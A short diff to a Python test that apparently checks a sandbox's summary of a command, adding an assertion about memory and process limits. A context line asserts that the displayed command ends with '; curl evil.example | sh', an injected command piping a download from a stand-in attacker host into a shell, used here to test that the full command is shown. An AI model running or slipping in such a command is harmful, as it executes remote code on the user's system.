@@ -113,3 +113,4 @@ def test_the_whole_command_is_shown(user_home: Path) -> None:
     assert facts["Runs as"].endswith("; curl evil.example | sh")
     assert facts["Sees, read only"] == "/opt/x"
     assert facts["Network"] == "none"
+    assert (facts["Memory"], facts["Processes"]) == ("at most 2048 MiB", "at most 128")
